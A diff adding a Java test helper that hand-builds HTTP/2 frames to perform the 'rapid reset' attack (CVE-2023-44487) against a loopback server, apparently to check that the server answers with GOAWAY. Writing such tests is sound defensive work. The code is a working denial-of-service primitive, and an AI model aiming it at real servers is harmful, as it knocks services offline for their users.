@@ -1,0 +1,110 @@
+package dev.crossgate.e2e;
+
+import java.io.DataInputStream;
+import java.io.EOFException;
+import java.io.IOException;
+import java.io.OutputStream;
+import java.net.InetAddress;
+import java.net.SocketTimeoutException;
+import java.nio.ByteBuffer;
+import java.nio.charset.StandardCharsets;
+import java.util.OptionalLong;
+
+import javax.net.ssl.SSLContext;
+import javax.net.ssl.SSLParameters;
+import javax.net.ssl.SSLSocket;
+
+/**
+ * HTTP/2 frames written by hand over TLS (ALPN h2), for what no well-behaved client does: opening streams and
+ * resetting them at once (CVE-2023-44487, "rapid reset"). Only what the abuse needs: the preface, empty SETTINGS,
+ * a GET as HEADERS with the static table, RST_STREAM, and reading frames until a GOAWAY.
+ */
+final class RawHttp2 implements AutoCloseable {
+
+    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
+    private static final int HEADERS = 0x1;
+    private static final int RST_STREAM = 0x3;
+    private static final int SETTINGS = 0x4;
+    private static final int GOAWAY = 0x7;
+    private static final int END_STREAM = 0x1;
+    private static final int END_HEADERS = 0x4;
+    private static final int CANCEL = 0x8;
+
+    private final SSLSocket socket;
+    private final OutputStream out;
+    private final DataInputStream in;
+
+    private RawHttp2(SSLSocket socket) throws IOException {
+        this.socket = socket;
+        this.out = socket.getOutputStream();
+        this.in = new DataInputStream(socket.getInputStream());
+    }
+
+    /** Connects, negotiates h2 and sends the connection preface with empty SETTINGS. */
+    static RawHttp2 connect(int port, SSLContext context) throws IOException {
+        SSLSocket socket = (SSLSocket) context.getSocketFactory().createSocket(InetAddress.getLoopbackAddress(), port);
+        SSLParameters parameters = socket.getSSLParameters();
+        parameters.setApplicationProtocols(new String[] {"h2"});
+        socket.setSSLParameters(parameters);
+        socket.setSoTimeout(10_000);
+        socket.startHandshake();
+        if (!"h2".equals(socket.getApplicationProtocol())) {
+            socket.close();
+            throw new IOException("the server did not agree to h2 (ALPN: " + socket.getApplicationProtocol() + ")");
+        }
+        RawHttp2 connection = new RawHttp2(socket);
+        connection.out.write(PREFACE);
+        connection.frame(SETTINGS, 0, 0, new byte[0]);
+        connection.out.flush();
+        return connection;
+    }
+
+    /** {@code GET /} on a new stream, reset at once; unflushed, so many go out in few records. */
+    void getAndReset(int streamId) throws IOException {
+        byte[] authority = "localhost".getBytes(StandardCharsets.US_ASCII);
+        ByteBuffer block = ByteBuffer.allocate(5 + authority.length);
+        // :method GET, :scheme https, :path / (static table 2, 7, 4); :authority literal without indexing, name index 1
+        block.put((byte) 0x82).put((byte) 0x87).put((byte) 0x84).put((byte) 0x01).put((byte) authority.length).put(authority);
+        frame(HEADERS, END_STREAM | END_HEADERS, streamId, block.array());
+        frame(RST_STREAM, 0, streamId, ByteBuffer.allocate(4).putInt(CANCEL).array());
+    }
+
+    void flush() throws IOException {
+        out.flush();
+    }
+
+    /** Reads frames until a GOAWAY (its error code) or the end of the connection (empty). */
+    OptionalLong awaitGoAway() throws IOException {
+        try {
+            while (true) {
+                int length = (in.readUnsignedByte() << 16) | in.readUnsignedShort();
+                int type = in.readUnsignedByte();
+                in.readUnsignedByte(); // flags
+                in.readInt(); // stream
+                byte[] payload = new byte[length];
+                in.readFully(payload);
+                if (type == GOAWAY) {
+                    return OptionalLong.of(Integer.toUnsignedLong(ByteBuffer.wrap(payload, 4, 4).getInt()));
+                }
+            }
+        } catch (EOFException | SocketTimeoutException e) {
+            return OptionalLong.empty();
+        } catch (IOException e) {
+            if (socket.isClosed() || String.valueOf(e.getMessage()).contains("reset")) {
+                return OptionalLong.empty();
+            }
+            throw e;
+        }
+    }
+
+    private void frame(int type, int flags, int streamId, byte[] payload) throws IOException {
+        out.write(new byte[] {(byte) (payload.length >>> 16), (byte) (payload.length >>> 8), (byte) payload.length, (byte) type, (byte) flags,
+                (byte) (streamId >>> 24), (byte) (streamId >>> 16), (byte) (streamId >>> 8), (byte) streamId});
+        out.write(payload);
+    }
+
+    @Override
+    public void close() throws IOException {
+        socket.close();
+    }
+}
